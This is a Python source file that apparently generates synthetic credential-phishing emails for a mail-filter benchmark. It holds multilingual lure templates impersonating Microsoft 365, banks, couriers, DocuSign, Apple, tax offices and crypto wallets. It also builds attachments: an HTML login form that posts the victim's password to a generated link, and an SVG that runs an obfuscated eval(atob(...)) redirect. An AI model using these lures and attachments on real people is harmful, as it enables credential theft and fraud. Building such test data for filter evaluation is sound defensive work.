# ruff: noqa: RUF001 (the text is written in other scripts on purpose: Turkish, Greek, CJK punctuation)
"""Set F's credential phishing: office suites, banks, parcels, webmail quota, e-signature, shared files,
voicemail, QR codes, streaming, tax, wallets, sign-in alerts, HTML and SVG login attachments."""

from __future__ import annotations

import base64

from bench.modern_mail.model import Attachment
from bench.modern_mail_f import files
from bench.modern_mail_f.context import Ctx
from bench.modern_mail_f.spam_build import BadFamily, Text, bad_link


def _qr(c: Ctx) -> Attachment:
    return Attachment(f"qr_{c.token(5)}.png", "image/png", files.png(c.rng, 29, 29), content_id=f"qr{c.token(8)}")


def _html_login(c: Ctx, victim: str) -> Attachment:
    target = bad_link(c, "owa", victim)
    page = (f'<html><head><title>Sign in</title></head><body><form action="{target}" method="post">'
            f'<input name="login" value="{victim}"><input type="password" name="passwd">'
            f'<button>Sign in to view document</button></form><script>document.forms[0].passwd.focus()</script>'
            f"</body></html>")
    name = c.rng.choice(("Remittance_Advice", "Payment_Copy", "Secure_Message", "VM_Playback", "Doc_Review"))
    ext = c.rng.choice(("html", "htm", "shtml"))
    return Attachment(f"{name}_{c.number('', 5)}.{ext}", "text/html", page.encode())


def _svg(c: Ctx, victim: str) -> Attachment:
    target = bad_link(c, "doc", victim)
    b64 = base64.b64encode(f"window.location='{target}'".encode()).decode()
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="10" y="40">Loading secure '
           f'document...</text><script type="text/javascript"><![CDATA[eval(atob("{b64}"))]]></script></svg>')
    return Attachment(f"{c.rng.choice(('Invoice', 'Statement', 'Fax', 'Audio_Msg'))}-{c.number('', 6)}.svg",
                      "image/svg+xml", svg.encode())


def _vm_html(c: Ctx, victim: str) -> Attachment:
    a = _html_login(c, victim)
    a.filename = f"VoiceMessage_{c.number('', 4)}_{c.rng.randint(0, 1)}m{c.rng.randint(10, 59)}s.html"
    return a


FAMILIES = (
    BadFamily("phish_o365_expiry", "phishing", {
        "en": Text(("Password expiry notice for {email}", "Action required: your password expires {day}",
                    "Mailbox password will expire today"),
                   ("Dear user,", "Hello {name},", "Attention:"),
                   ("The password for {email} is due to expire under our security policy. Expired passwords lock "
                    "Outlook, Teams and OneDrive until IT resets them.", "Our records show your sign-in password "
                    "has not been changed for 90 days and will be deactivated at 23:59 today."),
                   ("Keep the current password: {link}", "To keep using the same password, confirm it here: {link}"),
                   ("IT Service Desk", "Microsoft 365 Administration\nThis is an automated message."),
                   ("Keep my password", "Confirm now")),
        "de": Text(("Ihr Passwort läuft heute ab", "Kennwortablauf für {email}"),
                   ("Sehr geehrter Benutzer,", "Hallo,"),
                   ("das Kennwort Ihres Postfachs {email} läuft laut Richtlinie heute ab. Danach sind Outlook und "
                    "Teams gesperrt.",),
                   ("Aktuelles Kennwort beibehalten: {link}",), ("IT-Support",), ("Kennwort behalten",))},
        ("Microsoft 365", "IT Helpdesk", "Office365 Admin", "Account Security"), slug="m365", html=0.7),
    BadFamily("phish_shared_doc", "phishing", {
        "en": Text(("{name} shared \"Q1 Payment Schedule.xlsx\" with you", "New document shared: Contract_Rev3.pdf",
                    "You have been given access to a file"),
                   ("Hi,", "Hello,", ""),
                   ("A file has been shared with you via our secure portal. It will be available for 48 hours.",
                    "Please review the attached proposal before our call. I have shared it through the cloud so the "
                    "formatting stays intact."),
                   ("Open document: {link}", "View file ({link})"),
                   ("Sent from my iPhone", "Thanks", "Regards"), ("Open", "View document")),
        "fr": Text(("Document partagé : Facture_2026.pdf", "{name}, un fichier vous attend"),
                   ("Bonjour,",), ("Un document confidentiel a été partagé avec vous. Il expire dans 24 heures.",),
                   ("Consulter le document : {link}",), ("Cordialement",), ("Ouvrir",)),
        "it": Text(("Documento condiviso con te: Ordine_0412.pdf",), ("Salve,",),
                   ("Ti è stato inviato un documento tramite l'area riservata.",), ("Apri il documento: {link}",),
                   ("Saluti",), ("Apri",))},
        ("", "OneDrive", "SharePoint Online", "Dropbox Transfer"), slug="sharepoint", html=0.6),
    BadFamily("phish_bank", "phishing", {
        "en": Text(("Unusual activity on your account", "Your online banking access has been restricted",
                    "Security alert: confirm your identity"),
                   ("Dear valued customer,", "Dear client,"),
                   ("We detected a login to your online banking from an unrecognised device in Lagos. As a "
                    "precaution we have limited card payments.", "Because of new PSD2 rules, customers who do not "
                    "re-verify by {day} will have online access suspended."),
                   ("Restore access: {link}", "Verify here within 24 hours: {link}"),
                   ("Customer Protection Team",), ("Verify now", "Restore access")),
        "de": Text(("Sicherheitshinweis zu Ihrem Konto", "Ihr Online-Banking wurde eingeschränkt"),
                   ("Sehr geehrte Kundin, sehr geehrter Kunde,",),
                   ("wir haben eine ungewöhnliche Anmeldung festgestellt. Bitte bestätigen Sie Ihre Daten, sonst wird "
                    "der Zugang am {day} gesperrt.", "aufgrund der neuen Richtlinie muss Ihr pushTAN-Verfahren "
                    "erneut freigeschaltet werden."),
                   ("Zur Bestätigung: {link}",), ("Ihr Kundenservice",), ("Jetzt bestätigen",)),
        "es": Text(("Aviso de seguridad: cuenta bloqueada",), ("Estimado cliente:",),
                   ("Hemos bloqueado temporalmente su tarjeta por un cargo sospechoso de {amount}.",),
                   ("Desbloquee su cuenta aquí: {link}",), ("Atención al cliente",), ("Desbloquear",)),
        "nl": Text(("Uw betaalpas verloopt",), ("Geachte klant,",),
                   ("Uw bankpas verloopt binnenkort. Vraag kosteloos een nieuwe pas aan om blokkering te voorkomen.",),
                   ("Nieuwe pas aanvragen: {link}",), ("Klantenservice",), ("Aanvragen",))},
        ("Online Banking", "Security Department", "Kundenservice", "Banco Seguridad", "Klantenservice"),
        slug="bank", html=0.75),
    BadFamily("phish_parcel_fee", "phishing", {
        "en": Text(("Your parcel is on hold: customs fee unpaid", "Delivery attempt failed #{ref}",
                    "Action needed: reschedule your delivery"),
                   ("Dear customer,", "Hello,"),
                   ("Your package could not be delivered because a customs fee of €2.99 is outstanding.",
                    "We tried to deliver your parcel but the address label was incomplete."),
                   ("Pay and reschedule: {link}", "Confirm your address within 48 hours: {link}"),
                   ("Parcel Services",), ("Reschedule", "Pay fee")),
        "de": Text(("Ihre Sendung liegt beim Zoll", "Zustellung fehlgeschlagen – Sendung {ref}"),
                   ("Guten Tag,",), ("für Ihre Sendung fällt eine Einfuhrgebühr von 1,99 EUR an.",),
                   ("Gebühr begleichen: {link}",), ("Ihr Paketdienst",), ("Bezahlen",)),
        "fr": Text(("Votre colis est en attente", "Colis {ref} : frais de livraison"),
                   ("Bonjour,",), ("Votre colis est retenu au centre de tri : des frais de 1,89 € sont dus.",),
                   ("Régler les frais : {link}",), ("Service client",), ("Payer",)),
        "pl": Text(("Twoja paczka czeka na dopłatę",), ("Dzień dobry,",),
                   ("Przesyłka została wstrzymana z powodu niedopłaty 2,49 zł.",), ("Dopłać tutaj: {link}",),
                   ("",), ("Zapłać",)),
        "ja": Text(("【重要】お荷物のお届けについて",), ("お客様各位",),
                   ("お客様宛のお荷物をお届けにあがりましたが、宛先不明のため持ち帰りました。",),
                   ("再配達のお手続きはこちら：{link}",), ("配送センター",), ("再配達",))},
        ("DHL Express", "Parcel Service", "Post Delivery", "DPD Info", "Sagawa"), slug="parcel", html=0.5),
    BadFamily("phish_webmail_quota", "phishing", {
        "en": Text(("Mailbox full: incoming messages are being held", "Your mailbox is {gb}% full",
                    "cPanel webmail: storage limit reached"),
                   ("Dear {email},", "Hello webmail user,"),
                   ("Your mailbox has reached its storage quota. 14 incoming messages are currently pending and "
                    "will be returned to sender.", "Your email account storage is almost exhausted."),
                   ("Release pending messages: {link}", "Increase storage for free: {link}"),
                   ("Webmail Administrator", "Mail System Notice"), ("Release messages", "Increase quota"))},
        ("Webmail Admin", "Mail Server", "cPanel Notice", "Email Support"), slug="webmail", html=0.7),
    BadFamily("phish_esign", "phishing", {
        "en": Text(("Please DocuSign: Settlement Agreement.pdf", "Completed: Employee Handbook 2026 - sign by {day}",
                    "Document ready for your signature"),
                   ("", "Hello,"),
                   ("{name}, you have received a document to review and sign. Envelope ID: {ref}.",
                    "HR has sent you the updated handbook and salary adjustment letter for e-signature."),
                   ("REVIEW DOCUMENT: {link}", "Review and sign: {link}"),
                   ("Do not share this email. It contains a secure link.",), ("Review document", "Sign"))},
        ("DocuSign", "Adobe Sign", "HR via eSign", "E-Signature Service"), slug="docusign", html=0.8),
    BadFamily("phish_voicemail", "phishing", {
        "en": Text(("Voicemail received from +1 (415) *** **21", "New voice message (0:47)",
                    "Missed call - 1 new voice message"),
                   ("You have a new voicemail.",), ("Caller: Unknown\nDuration: 00:47\nReceived: {day}",),
                   ("Play the attached message, or listen online: {link}",), ("Unified Messaging",),
                   ("Listen",))},
        ("Voicemail Service", "Teams Voice", "PBX System"), slug="voice", html=0.3, attach=_vm_html),
    BadFamily("phish_qr_mfa", "phishing", {
        "en": Text(("Action required: re-register multi-factor authentication", "Your MFA expires on {day}",
                    "Scan to keep access to your mailbox"),
                   ("Hello {name},", "Dear employee,"),
                   ("Under the new security policy every account must re-enrol its authenticator app by {day}.",
                    "Your two-factor setup is out of date and will be removed."),
                   ("Scan the QR code below with your phone camera to complete the update.",),
                   ("IT Security",), ("Scan",)),
        "de": Text(("MFA-Aktualisierung erforderlich",), ("Hallo,",),
                   ("alle Konten müssen die Authenticator-App bis {day} neu registrieren.",),
                   ("Scannen Sie den QR-Code mit Ihrem Smartphone.",), ("IT-Sicherheit",), ("Scannen",))},
        ("IT Security", "Microsoft Authenticator", "Admin"), slug="mfa", html=1.0, inline=_qr),
    BadFamily("phish_qr_payroll", "phishing", {
        "en": Text(("Q1 salary adjustment - view your letter", "Bonus payment confirmation required"),
                   ("Hello,",), ("HR has approved your salary review. The letter can only be opened on a mobile "
                                 "device for security reasons.",),
                   ("Scan the code to view the document.",), ("Human Resources",), ("Scan",)),
        "es": Text(("Actualización de nómina",), ("Hola,",),
                   ("Recursos Humanos ha publicado su nueva nómina con la subida salarial.",),
                   ("Escanee el código QR para verla.",), ("RR. HH.",), ("Escanear",))},
        ("HR Department", "Payroll", "People Team"), slug="hr", html=1.0, inline=_qr),
    BadFamily("phish_streaming", "phishing", {
        "en": Text(("Your membership is on hold", "Payment declined - update your details",
                    "We could not renew your subscription"),
                   ("Hi,",), ("We were unable to process your last payment, so your account has been paused.",),
                   ("Update payment method: {link}",), ("The Support Team",), ("Update payment",)),
        "pt": Text(("A sua subscrição foi suspensa",), ("Olá,",),
                   ("Não conseguimos processar o pagamento da sua mensalidade.",),
                   ("Atualize os dados aqui: {link}",), ("Equipa de apoio",), ("Atualizar",)),
        "it": Text(("Abbonamento sospeso",), ("Ciao,",),
                   ("Il pagamento del tuo abbonamento non è andato a buon fine.",),
                   ("Aggiorna il metodo di pagamento: {link}",), ("",), ("Aggiorna",))},
        ("Netflix", "Streaming Support", "Disney+ Billing", "Spotify"), slug="stream", html=0.8),
    BadFamily("phish_tax_refund", "phishing", {
        "en": Text(("You are eligible for a tax refund of {amount}", "HMRC: refund notification {ref}"),
                   ("Dear taxpayer,",), ("After the annual calculation of your fiscal activity we determined that "
                                         "you are eligible to receive a refund.",),
                   ("Submit your refund request: {link}",), ("Tax Refund Department",), ("Claim refund",)),
        "fr": Text(("Remboursement d'impôt en attente",), ("Madame, Monsieur,",),
                   ("Un remboursement de {amount} a été calculé en votre faveur.",),
                   ("Pour le recevoir : {link}",), ("Direction des finances publiques",), ("Recevoir",)),
        "es": Text(("Devolución pendiente de la Agencia Tributaria",), ("Estimado contribuyente:",),
                   ("Tiene una devolución pendiente de {amount}.",), ("Solicítela aquí: {link}",), ("",),
                   ("Solicitar",))},
        ("Tax Office", "HMRC", "Impots.gouv", "Agencia Tributaria"), slug="tax", html=0.5),
    BadFamily("phish_wallet", "phishing", {
        "en": Text(("Wallet verification required", "Your wallet will be disconnected",
                    "Unauthorized withdrawal attempt blocked"),
                   ("Dear user,",), ("A withdrawal of 0.84 BTC was requested from a new device. If this was not you, "
                                     "your wallet must be re-synchronised.",),
                   ("Secure your wallet: {link}",), ("Wallet Security",), ("Secure wallet",))},
        ("Ledger Support", "Coinbase Security", "MetaMask"), slug="wallet", html=0.7),
    BadFamily("phish_signin_alert", "phishing", {
        "en": Text(("New sign-in from Windows in Moscow", "Someone has your password", "Security alert for {email}"),
                   ("Hi {name},",), ("We noticed a new sign-in to your account from an unfamiliar device.\n"
                                     "Location: Moscow, Russia\nIP: 198.51.100.14",),
                   ("If this wasn't you, secure your account: {link}",), ("The Accounts Team",),
                   ("Check activity",)),
        "ko": Text(("새로운 기기에서 로그인되었습니다",), ("고객님,",), ("해외에서 로그인 시도가 확인되었습니다.",),
                   ("본인이 아니라면 즉시 확인하세요: {link}",), ("",), ("확인",)),
        "zh": Text(("您的账户在异地登录",), ("尊敬的用户：",), ("系统检测到您的账户在陌生设备上登录。",),
                   ("如非本人操作，请立即验证：{link}",), ("",), ("立即验证",))},
        ("Google", "Account Security", "Naver", "账户安全中心"), slug="google", html=0.6),
    BadFamily("phish_html_attachment", "phishing", {
        "en": Text(("Remittance advice - payment sent", "Purchase order #{ref}", "Payment confirmation {ref}"),
                   ("Good day,", "Hello,"),
                   ("Please find attached the remittance for the outstanding invoices.",
                    "Attached is our purchase order, kindly confirm availability."),
                   ("Open the attachment with your email login to view.",), ("Accounts Payable",), ("View",))},
        ("", "Accounts Payable", "Procurement"), slug="owa", html=0.2, attach=_html_login),
    BadFamily("phish_svg_attachment", "phishing", {
        "en": Text(("Fax received: 3 pages", "Statement of account attached", "Audio message for {name}"),
                   ("",), ("You have received a new document.",), ("See attachment.",), ("",), ("Open",)),
        "de": Text(("Neues Fax eingegangen",), ("",), ("Sie haben ein neues Dokument erhalten.",), ("Siehe Anhang.",),
                   ("",), ("Öffnen",))},
        ("eFax", "Scanner", "Document Center"), slug="doc", html=0.1, attach=_svg),
    BadFamily("phish_page_violation", "phishing", {
        "en": Text(("Your page will be unpublished", "Copyright infringement report on your page",
                    "Final warning: page policy violation"),
                   ("Hello,",), ("We received a copyright report about a post on your business page. If no appeal "
                                 "is filed within 24 hours the page will be permanently removed.",),
                   ("Submit an appeal: {link}",), ("Meta Business Support",), ("Appeal",))},
        ("Meta for Business", "Page Support", "Instagram Help"), slug="meta", html=0.7),
    BadFamily("phish_apple_locked", "phishing", {
        "en": Text(("Your Apple ID has been locked", "Receipt for your purchase of {amount}"),
                   ("Dear customer,",), ("Your Apple ID was locked for security reasons after several failed "
                                         "attempts.", "You bought Final Cut Pro for {amount}. If you did not "
                                                      "authorise this purchase, cancel it."),
                   ("Unlock / cancel here: {link}",), ("Apple Support",), ("Unlock",))},
        ("Apple", "App Store", "iCloud"), slug="appleid", html=0.7),
    BadFamily("phish_domain_renewal", "phishing", {
        "en": Text(("Domain suspension notice", "Your domain expires in 24 hours", "Final renewal notice"),
                   ("Dear domain owner,",), ("The registration of your domain expires on {day}. After expiry your "
                                             "website and email will stop working.",),
                   ("Renew now for {amount}: {link}",), ("Domain Services",), ("Renew",))},
        ("Domain Registry", "Hosting Billing", "DNS Services"), slug="domain", html=0.6),
)
